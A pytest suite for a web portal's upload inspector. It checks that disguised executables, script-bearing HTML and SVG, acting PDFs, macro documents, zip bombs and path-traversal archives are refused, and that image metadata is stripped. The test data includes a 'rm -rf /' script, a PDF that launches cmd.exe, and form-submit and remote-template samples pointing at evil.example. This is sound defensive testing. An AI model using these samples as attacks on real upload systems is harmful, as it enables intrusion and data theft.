"""Files made to do harm: refused, quickly, with a sentence; or taken and made harmless."""

import contextlib
import io
import random
import resource
import struct
import time
import zipfile
import zlib
from collections.abc import Iterable

import pytest
from PIL import Image

from portal.web.archives import ArchiveRefused, Limits, check_archive
from portal.web.uploads import KINDS, UploadRefused, inspect

TYPES = b'<?xml version="1.0"?><Types><Default Extension="xml" ContentType="application/xml"/></Types>'
WORD = {"[Content_Types].xml": TYPES, "_rels/.rels": b"<Relationships/>", "word/document.xml": b"<w:document/>"}
ODT = "application/vnd.oasis.opendocument.text"


def zipped(members: dict[str, bytes] | Iterable[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, content in members.items() if isinstance(members, dict) else members:
            archive.writestr(name, content)
    return target.getvalue()


def pdf(body: bytes = b"", end: bytes = b"%%EOF\n") -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + body + b"\ntrailer << /Root 1 0 R >>\n" + end


def reason(content: bytes, name: str, allowed: set[str] | None = None) -> str:
    start = time.process_time()
    with pytest.raises(UploadRefused) as refused:
        inspect(io.BytesIO(content), name, allowed)
    assert time.process_time() - start < 6
    assert refused.value.sentence.endswith((".", ").")) and "\n" not in refused.value.sentence
    return refused.value.reason


def taken(content: bytes, name: str) -> bytes:
    return inspect(io.BytesIO(content), name).stream.read()


# --- what the name says


@pytest.mark.parametrize(
    ("name", "advice"),
    [
        ("macro.docm", "without them"),
        ("old.doc", "older kind"),
        ("page.mht", "Save it as PDF"),
        ("page.html", "not what its name says"),
        ("drawing.svg", "PNG or PDF"),
        ("phone.avif", "JPEG or PNG"),
        ("run.py", "in a .zip"),
        ("run.bat", "text file"),
        ("pack.rar", ".zip"),
        ("film.mov", "MP4"),
        ("setup.exe", "Programs are not taken"),
        ("shortcut.lnk", "Programs are not taken"),
        ("nothing", "kind of file is not taken"),
        (".htaccess", "kind of file is not taken"),
        ("what.xyz", "kind of file is not taken"),
        ("photo.jpg.exe", "Programs are not taken"),
        ("photo\u202egpj.exe", "Programs are not taken"),
        ("page.html. . ", "not what its name says"),
        ("page.pdf\x00.html", "not what its name says"),
    ],
)
def test_the_ending_decides_and_the_sentence_says_what_to_send(name: str, advice: str) -> None:
    with pytest.raises(UploadRefused) as refused:
        inspect(io.BytesIO(b"x"), name)
    assert advice in refused.value.sentence


def test_a_form_may_want_fewer_kinds() -> None:
    with pytest.raises(UploadRefused, match=r"\.jpg, \.png|\.jpeg"):
        inspect(io.BytesIO(pdf()), "a.pdf", {"jpeg", "png"})


def test_empty_and_too_large() -> None:
    assert reason(b"", "a.pdf") == "empty"
    assert reason(b"a" * 5_000_001, "a.txt") == "too-large"


def test_every_kind_has_one_type_and_its_own_endings() -> None:
    endings = [extension for kind in KINDS for extension in kind.extensions]
    assert len(endings) == len(set(endings))
    assert not {"text/html", "image/svg+xml", "application/xhtml+xml"} & {kind.media_type for kind in KINDS}


# --- what the content says


@pytest.mark.parametrize(
    "name",
    [
        "a.pdf",
        "a.docx",
        "a.png",
        "a.jpg",
        "a.gif",
        "a.webp",
        "a.mp4",
        "a.webm",
        "a.mp3",
        "a.zip",
        "a.odt",
        "a.stl",
        "a.ply",
        "a.vtt",
    ],
)
@pytest.mark.parametrize(
    "content",
    [
        b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        "<html><script>alert(1)</script>".encode("utf-16"),
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b"MZ\x90\x00\x03" + b"\0" * 200,
        b"\x7fELF\x02\x01\x01" + b"\0" * 200,
        b"#!/bin/sh\nrm -rf /\n",
        b"MIME-Version: 1.0\nContent-Type: multipart/related; type=text/html\n\n",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000,
        b"\0" * 1000,
    ],
)
def test_content_under_another_name(name: str, content: bytes) -> None:
    assert reason(content, name)


@pytest.mark.parametrize("name", ["a.txt", "a.md", "a.csv"])
def test_programs_are_no_text(name: str) -> None:
    assert reason(b"MZ\x90\x00" + bytes(range(256)) * 8, name) == "program"
    assert reason(b"#!/usr/bin/env python\nprint(1)\n", name) == "program"
    assert reason(random.Random(1).randbytes(4000), name) == "not-text"


# --- PDF


def test_a_plain_pdf_is_taken_byte_for_byte() -> None:
    content = pdf(b"2 0 obj\n<< /Names << /JavaScript 3 0 R >> /Length 5 >>\nstream\n\x01/JS\x02\nendstream\nendobj\n")
    assert taken(content, "plan.pdf") == content


@pytest.mark.parametrize(
    "body",
    [
        b"2 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj",
        b"2 0 obj << /S/JavaScript/JS 3 0 R >> endobj",
        b"2 0 obj << /S /J#61vaScript /J#53 (app.alert(1)) >> endobj",
        b"2 0 obj << /S % a remark\n/JavaScript >> endobj",
        b"2 0 obj << /S % " + b"a long remark" * 100 + b"\n/JavaScript /JS % another\n (app.alert(1)) >> endobj",
        b"2 0 obj << /JS % " + b"a long remark" * 100 + b"\n(app.alert(1)) >> endobj",
        b"2 0 obj << /JS <6170702e616c65> >> endobj",
        b"2 0 obj << /S /Launch /F (cmd.exe) >> endobj",
        b"2 0 obj << /Type /EmbeddedFile >> endobj",
        b"2 0 obj << /Names << /EmbeddedFiles 3 0 R >> >> endobj",
        b"2 0 obj << /Subtype /RichMedia >> endobj",
        b"2 0 obj << /S /SubmitForm /F (http://evil.example) >> endobj",
    ],
)
def test_a_pdf_that_acts(body: bytes) -> None:
    assert reason(pdf(body), "plan.pdf") == "pdf-acts"


def object_stream(objects: bytes, filters: bytes = b"/Filter /FlateDecode") -> bytes:
    packed = zlib.compress(objects)
    return (
        b"4 0 obj\n<< /Type /ObjStm /N 1 "
        + filters
        + b" /Length %d >>\nstream\n" % len(packed)
        + packed
        + b"\nendstream\nendobj"
    )


def test_a_pdf_that_hides_its_script_in_a_packed_stream() -> None:
    assert reason(pdf(object_stream(b"<< /S /JavaScript /JS (x) >>")), "plan.pdf") == "pdf-acts"
    hidden = object_stream(b"<< /S /JavaScript /JS (x) >>", b"/Filter [ /ASCIIHexDecode /FlateDecode ]")
    assert reason(pdf(hidden), "plan.pdf") == "pdf-filter"
    assert reason(pdf(object_stream(b"<<>>") + b" << /Encrypt 9 0 R >>"), "plan.pdf") == "pdf-locked"
    assert taken(pdf(object_stream(b"<< /Type /Page >>")), "plan.pdf")


def test_a_pdf_with_a_stream_that_never_ends() -> None:
    assert reason(pdf(object_stream(b" " * 80_000_000)), "plan.pdf") == "pdf-bomb"


def test_a_pdf_made_to_keep_us_busy() -> None:
    assert reason(pdf(b"stream\n" * 200_000), "plan.pdf") == "pdf-bomb"
    assert taken(pdf(b"/JS " + b"1" * 1_000_000), "plan.pdf")
    assert taken(pdf(b"/S" + b" " * 1_000_000), "plan.pdf")
    assert taken(pdf(b"/S%" * 1_000_000), "plan.pdf")


def test_a_pdf_that_is_also_something_else() -> None:
    assert reason(b"<script>" + pdf(), "plan.pdf") == "first-bytes"
    assert reason(pdf(end=b"%%EOF" + b"\0" * 2000), "plan.pdf") == "not-pdf"
    assert reason(pdf() + zipped({"a.txt": b"x"}), "plan.pdf") == "not-pdf"
    assert reason(b"%PDF-1.7", "plan.pdf") == "not-pdf"


# --- office documents and archives


def test_a_plain_document_is_taken() -> None:
    assert taken(zipped(WORD), "plan.docx")
    assert taken(zipped([("mimetype", ODT.encode()), ("content.xml", b"<x/>")], zipfile.ZIP_STORED), "plan.odt")
    assert taken(zipped({"a.pdf": pdf(), "code/start.py": b"print(1)"}), "pack.zip")


@pytest.mark.parametrize(
    ("more", "why"),
    [
        ({"word/vbaProject.bin": b"x"}, "macros"),
        ({"word/VBAPROJECT.BIN": b"x"}, "macros"),
        ({"word/activeX/activeX1.xml": b"<x/>"}, "macros"),
        ({"word/media/run.exe": b"MZ"}, "program"),
        ({"word/media/image1.png": b"MZ\x90"}, "program"),
        ({"word/media/a.bin": zipped({"x": b"y"})}, "nested"),
        ({"word/settings.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}, "entities"),
        ({"word/settings.xml": '<?xml version="1.0"?><!DOCTYPE x>'.encode("utf-16")}, "entities"),
        ({"word/settings.xml": b" " * 70_000 + b"<!DOCTYPE x>"}, "entities"),
        ({"word/embeddings/oleObject1.bin": b"\xd0\xcf" + "\x01Ole10Native".encode("utf-16-le")}, "package"),
        ({"../../evil.txt": b"x"}, "archive-path"),
        ({"/etc/passwd": b"x"}, "archive-path"),
        ({"C:\\evil.txt": b"x"}, "archive-path"),
        ({"a\\..\\..\\b.txt": b"x"}, "archive-path"),
        ({"WORD/document.xml": b"x"}, "archive-path"),
        (
            {
                "word/_rels/settings.xml.rels": b'<Relationship Id="1" Type="http://x/relationships/attachedTemplate" '
                b'Target="http://evil.example/t.dotm" TargetMode="External"/>'
            },
            "remote",
        ),
        (
            {
                "[Content_Types].xml": b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
            },
            "macros",
        ),
    ],
)
def test_a_document_with_something_in_it(more: dict[str, bytes], why: str) -> None:
    assert reason(zipped(WORD | more), "plan.docx") == why


def test_a_document_that_is_another_document() -> None:
    assert reason(zipped(WORD), "plan.pptx") == "not-office"
    assert reason(zipped([("mimetype", ODT.encode()), ("content.xml", b"<x/>")]), "plan.odp") == "not-opendocument"
    assert reason(zipped({"content.xml": b"<x/>", "mimetype": ODT.encode()}), "plan.odt") == "not-opendocument"
    odt = [("mimetype", ODT.encode()), ("content.xml", b"<x/>"), ("Basic/Standard/Module1.xml", b"<x/>")]
    assert reason(zipped(odt, zipfile.ZIP_STORED), "plan.odt") == "macros"


def test_a_chart_may_bring_its_workbook() -> None:
    assert taken(
        zipped(WORD | {"word/embeddings/Microsoft_Excel_Sheet.xlsx": zipped({"xl/workbook.xml": b"<x/>"})}), "a.docx"
    )
    macro = zipped({"xl/vbaProject.bin": b"x"}, zipfile.ZIP_STORED)
    assert reason(zipped(WORD | {"word/embeddings/Sheet.xlsx": macro}), "a.docx") == "macros"


@pytest.mark.parametrize(
    ("member", "why"),
    [
        ("run.exe", "program"),
        ("a/b/run.BAT", "program"),
        ("page.html", "program"),
        ("m.docm", "program"),
        ("inner.zip", "nested"),
        ("a.jar", "nested"),
    ],
)
def test_an_archive_with_something_that_runs(member: str, why: str) -> None:
    assert reason(zipped({"a.pdf": b"x", member: b"x"}), "pack.zip") == why


def test_an_archive_of_nothing_known() -> None:
    assert reason(zipped({"a.xyz": b"x"}), "pack.zip") == "nothing-known"


def test_bombs_are_refused_without_being_unpacked() -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert reason(zipped({"a.txt": b"\0" * 50_000_000}), "pack.zip") == "archive-too-large"
    assert reason(zipped((f"{number}.txt", b"") for number in range(10_001)), "pack.zip") == "archive-too-many"
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300_000


def test_members_that_are_modest_alone_and_not_together() -> None:
    data = zipped({f"{number}.txt": b"0123456789" * 100 for number in range(5)})
    assert len(check_archive(io.BytesIO(data), Limits(unpacked=5_000))) == 5
    with pytest.raises(ArchiveRefused, match="too-large"):
        check_archive(io.BytesIO(data), Limits(unpacked=4_999))


def test_an_archive_that_lies_about_its_sizes() -> None:
    data = bytearray(zipped({"a.txt": b" " * 30_000_000}))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into("<I", data, data.find(mark) + offset, 1_000)
    assert reason(bytes(data), "pack.zip") in {"archive-damaged", "archive-too-large"}


def test_members_that_share_bytes() -> None:
    """The directory names one member twice, under two names: the trick of CVE-2024-0450."""
    data = zipped({"a.txt": b"x" * 100})
    start = data.find(b"PK\x01\x02")
    end = data.find(b"PK\x05\x06")
    entry = data[start:end]
    twice = entry + entry.replace(b"a.txt", b"b.txt")
    tail = bytearray(data[end:])
    struct.pack_into("<HHI", tail, 8, 2, 2, len(twice))
    assert reason(data[:start] + twice + bytes(tail), "pack.zip") in {"archive-overlap", "archive-damaged"}


def test_an_archive_behind_something_else() -> None:
    assert reason(b"GIF89a" + zipped(WORD), "plan.docx") == "first-bytes"
    assert reason(b"PK\x03\x04 not really " + zipped(WORD), "plan.docx").startswith("archive-")


# --- pictures


def picture(form: str, size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    target = io.BytesIO()
    Image.effect_noise(size, 90).convert("RGB").save(target, form, **options)
    return target.getvalue()


def png_header(width: int, height: int) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 10_000))
        + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize("size", [(50_000, 50_000), (15_000, 10_000), (1, 2_000_000_000)])
def test_a_picture_with_too_many_dots(size: tuple[int, int]) -> None:
    assert reason(png_header(*size), "a.png") in {"picture-large", "not-picture"}


def test_a_moving_picture_that_is_too_long() -> None:
    target = io.BytesIO()
    frames = [Image.new("RGB", (10, 10), (number % 255, number // 255, 0)) for number in range(650)]
    frames[0].save(target, "GIF", save_all=True, append_images=frames[1:], duration=20)
    assert reason(target.getvalue(), "a.gif") == "film-long"


@pytest.mark.parametrize("form", ["JPEG", "PNG", "GIF", "WEBP"])
def test_what_hangs_behind_or_between_the_dots_is_gone(form: str) -> None:
    payload = b"<script>alert(document.domain)</script>"
    content = picture(form) + payload
    kept = taken(content, f"a.{form.lower()}")
    assert payload not in kept
    with Image.open(io.BytesIO(kept)) as again:
        assert (again.format, again.size) == (form, (40, 30))


def test_a_gif_that_is_also_a_script() -> None:
    content = bytearray(picture("GIF"))
    content[6:8] = b"/*"
    kept = b""
    with contextlib.suppress(UploadRefused):
        kept = taken(bytes(content) + b"*/=1;alert(1)", "a.gif")
    assert b"alert" not in kept


def with_everything(form: str) -> bytes:
    """A picture that tells where, when and with what it was taken."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turned a quarter
    exif[0x010F] = "CAMERA-MAKER"
    exif[0x013B] = "PHOTOGRAPHER"
    exif.get_ifd(0x8825)[2] = (54.0, 30.0, 15.0)
    exif.get_ifd(0x8825)[1] = "N"
    options: dict[str, object] = {"exif": exif}
    if form in ("JPEG", "WEBP"):
        options["xmp"] = b"<x:xmpmeta>SECRET-XMP</x:xmpmeta>"
    if form == "JPEG":
        options["comment"] = b"SECRET-COMMENT"
    return picture(form, **options)


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_pictures_tell_nothing_and_stand_upright(form: str) -> None:
    content = with_everything(form)
    assert b"CAMERA-MAKER" in content
    kept = taken(content, f"a.{form.lower()}")
    for secret in (b"CAMERA-MAKER", b"PHOTOGRAPHER", b"SECRET", b"Exif", b"xmpmeta", b"eXIf"):
        assert secret not in kept
    with Image.open(io.BytesIO(kept)) as again:
        assert again.size == (30, 40)
        assert not again.getexif()
        assert not {"comment", "xmp", "exif", "icc_profile", "XML:com.adobe.xmp"} & again.info.keys()


def test_remarks_in_png_and_gif_are_gone() -> None:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "SECRET-NAME")
    info.add_itxt("XML:com.adobe.xmp", "SECRET-PLACE")
    assert b"SECRET" not in taken(picture("PNG", pnginfo=info), "a.png")
    assert b"SECRET" not in taken(picture("GIF", comment=b"SECRET-NAME"), "a.gif")


def test_see_through_places_stay_see_through() -> None:
    target = io.BytesIO()
    Image.new("RGBA", (10, 10), (255, 0, 0, 0)).save(target, "PNG")
    with Image.open(io.BytesIO(taken(target.getvalue(), "a.png"))) as again:
        assert again.convert("RGBA").getpixel((5, 5))[3] == 0


def test_a_moving_webp_still_moves() -> None:
    target = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), (shade, 0, 0)) for shade in (0, 90, 180)]
    frames[0].save(target, "WEBP", save_all=True, append_images=frames[1:], duration=[100, 200, 300])
    with Image.open(io.BytesIO(taken(target.getvalue(), "a.webp"))) as again:
        assert again.n_frames == 3


# --- text, models, films


def test_texts_are_kept_in_utf_8() -> None:
    assert taken("Größe".encode(), "a.txt") == "Größe".encode()
    assert taken("Größe, Café".encode("cp1252"), "a.md") == "Größe, Café".encode()
    assert taken("a;Größe\r\n".encode("utf-16"), "a.csv") == "\ufeffa;Größe\r\n".encode()
    assert taken(b"WEBVTT\n\n00:01.000 --> 00:02.000\nHello\n", "a.vtt").startswith(b"WEBVTT")
    assert reason(b"1\n00:01 --> 00:02\nHello\n", "a.vtt") == "not-subtitles"


def test_models() -> None:
    facets = struct.pack("<80xI", 2) + b"\1" * 100
    assert taken(facets, "a.stl") == facets
    assert taken(b"solid a\n facet normal 0 0 1\n endfacet\nendsolid a\n", "b.stl")
    assert reason(facets + b"more", "a.stl") == "not-model"
    assert taken(b"ply\nformat ascii 1.0\nelement vertex 0\nend_header\n", "a.ply")
    assert reason(b"ply is nice", "a.ply") == "not-model"


def test_films_and_sound() -> None:
    box = struct.pack(">I4s4s4x", 16, b"ftyp", b"isom") + struct.pack(">I4s", 8, b"moov")
    assert taken(box, "a.mp4") == box
    assert reason(box[:16], "a.mp4") == "not-film"
    assert reason(box + b"<html>", "a.mp4") == "not-film"
    webm = b"\x1a\x45\xdf\xa3\x93\x42\x82\x84webm" + b"\0" * 60
    assert taken(webm, "a.webm") == webm
    assert taken(b"ID3\x04\0\0\0\0\0\0" + b"\0" * 20, "a.mp3")
    assert taken(b"\xff\xfb\x90\x64" + b"\0" * 400, "a.mp3")
    assert reason(b"\xff\xff\xff\xff" * 40, "a.mp3") == "not-film"
